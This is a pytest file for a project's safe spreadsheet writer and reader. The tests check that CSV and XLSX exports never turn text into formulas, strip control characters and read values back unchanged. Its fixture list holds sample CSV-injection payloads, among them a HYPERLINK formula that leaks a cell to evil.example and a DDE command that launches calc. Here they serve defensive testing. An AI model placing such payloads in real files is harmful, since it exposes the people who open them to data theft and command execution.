"""The one safe writer (campaign/spreadsheets.py) and the reader's undoing of its escape: no
control character breaks a file, no text becomes a formula, every text reads back unchanged."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from campaign import spreadsheets
from campaign.importing.reading import read_sheets

TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "-5 apples", "+86 21 5741 0000",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝SUM(A1)", "'=already quoted", "''+twice", "'plain quote", "it's fine",
    "#N/A", "地面积水\n第二行", "=", "-", "'", "plain",
]
NATIVE = [-5, 0, 3.25, Decimal("-1.5"), dt.date(2026, 9, 18), dt.datetime(2026, 9, 18, 8, 30)]


def xlsx(rows, *, write_only: bool) -> bytes:
    workbook = openpyxl.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Sheet") if write_only else workbook.active
    for row in rows:
        spreadsheets.append_row(sheet, row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows) -> bytes:
    out = io.StringIO(newline="")
    writer = spreadsheets.csv_writer(out)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


@pytest.mark.parametrize("write_only", [True, False])
def test_no_text_becomes_a_formula_and_every_text_reads_back_unchanged_from_xlsx(write_only):
    data = xlsx([TEXTS, NATIVE], write_only=write_only)

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    types = [cell.data_type for row in sheet.iter_rows() for cell in row]
    assert "f" not in types and "e" not in types
    # What Excel shows: the text as written, kept as text when the cell is edited.
    for cell in sheet[1]:
        if spreadsheets.is_formula_like(cell.value):
            assert cell.quotePrefix
    (read,) = read_sheets(data)
    assert read.rows[0][1] == TEXTS
    assert read.rows[1][1][:len(NATIVE)] == [-5, 0, 3.25, -1.5, dt.datetime(2026, 9, 18),
                                              dt.datetime(2026, 9, 18, 8, 30)]


def test_every_text_reads_back_unchanged_from_csv_and_excel_sees_only_text():
    data = csv_bytes([TEXTS, NATIVE])

    assert data.startswith("\ufeff".encode())
    raw = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    # As Excel or WPS opens it: nothing starts like a formula.
    assert [value for value in raw[0] if spreadsheets.is_formula_like(value)] == []
    assert raw[1] == ["-5", "0", "3.25", "-1.5", "2026-09-18", "2026-09-18 08:30:00"]  # numbers stay numbers
    (read,) = read_sheets(data)
    assert read.rows[0][1] == TEXTS


def test_control_characters_are_removed_and_tabs_and_line_breaks_kept():
    text = "water\x00 leak\x01 near\x1f gate\x7f\x85\ufffe\tkept\r\nkept"
    assert spreadsheets.clean_text(text) == "water leak near gate\tkept\r\nkept"
    (read,) = read_sheets(xlsx([["a\x01b", "\x02=1+1"]], write_only=True))
    assert read.rows[0][1] == ["ab", "=1+1"]
    assert csv_bytes([["a\x01b"]]).decode("utf-8-sig") == "ab\r\n"


def test_a_cell_a_person_quoted_in_excel_comes_back_as_they_meant_it():
    # Typing '=x in Excel stores the text "=x" with the quote-prefix style.
    workbook = openpyxl.Workbook()
    cell = workbook.active.cell(row=1, column=1, value="=x")
    cell.data_type, cell.quotePrefix = "s", True
    workbook.active.cell(row=1, column=2, value="'Quoted' name")
    buffer = io.BytesIO()
    workbook.save(buffer)
    (read,) = read_sheets(buffer.getvalue())
    assert read.rows[0][1] == ["=x", "'Quoted' name"]
    # In a CSV file the apostrophe is written out (and is no quote character).
    (read,) = read_sheets(b"'=x,'Quoted' name,'-5\r\n")
    assert read.rows[0][1] == ["=x", "'Quoted' name", "-5"]


def test_a_styled_cell_of_a_write_only_sheet_is_safe_too():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet")
    header = spreadsheets.safe_cell(sheet, "=header\x01")
    header.font = openpyxl.styles.Font(bold=True)
    spreadsheets.append_row(sheet, [header, "=next", 1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert [(c.value, c.data_type) for c in row] == [("=header", "s"), ("=next", "s"), (1, "n")]
    assert row[0].font.b and not row[2].quotePrefix


# --- The streaming writer (the ledger export's engine) ---------------------------------------


def stream_xlsx(rows, header=None) -> bytes:
    stream = spreadsheets.XlsxStream("问题台账")
    stream.set_width(0, 30)
    stream.freeze_rows(1)
    if header:
        stream.header(header, fill="DDEBF7")
    for row in rows:
        stream.append(row)
    buffer = io.BytesIO()
    stream.save(buffer)
    return buffer.getvalue()


def test_the_streaming_writer_keeps_the_same_rules_as_the_safe_writer():
    data = stream_xlsx([TEXTS, NATIVE, ["a\x01b", "\x02=1+1", "甲路 1 号", None, "plain", "第一行\r\n第二行"]])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}  # no formula, no error cell
    for cell in sheet[1]:
        # Formula-like text and text beginning with an apostrophe: kept text when edited.
        assert cell.quotePrefix == (spreadsheets.is_formula_like(cell.value) or cell.value[:1] == "'")
    (read,) = read_sheets(data)
    # Line breaks as Excel's own (a line feed): the importer reads no "_x000D_".
    assert read.rows[0][1] == [text.replace("\r", "\n") for text in TEXTS]
    assert read.rows[1][1][:len(NATIVE)] == [-5, 0, 3.25, -1.5, dt.datetime(2026, 9, 18),
                                              dt.datetime(2026, 9, 18, 8, 30)]
    assert read.rows[2][1][:3] == ["ab", "=1+1", "甲路 1 号"] and read.rows[2][1][4:6] == ["plain", "第一行\n第二行"]
    # Dates as dates, shown as dates.
    assert sheet["E2"].is_date and sheet["E2"].number_format == "yyyy-mm-dd"


def test_the_streaming_writer_writes_the_template_layout():
    data = stream_xlsx([["BULK-1", 1]], header=["=序号", "编号"])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "问题台账" and sheet.freeze_panes == "A2"
    assert round(sheet.column_dimensions["A"].width) in (30, 31)  # Excel adds its padding
    assert [(c.value, c.data_type, c.font.b, c.fill.fgColor.rgb) for c in sheet[1]] == [
        ("=序号", "s", True, "FFDDEBF7"), ("编号", "s", True, "FFDDEBF7")]
    assert sheet["A1"].quotePrefix and sheet["A2"].value == "BULK-1" and sheet["B2"].value == 1


def test_the_streaming_writer_writes_to_a_path_too(tmp_path):
    stream = spreadsheets.XlsxStream("Sheet")
    stream.append(["=x", dt.date(2026, 1, 2)])
    stream.save(str(tmp_path / "out.xlsx"))
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert sheet["A1"].value == "=x" and sheet["A1"].data_type == "s"
    assert sheet["B1"].value == dt.datetime(2026, 1, 2)
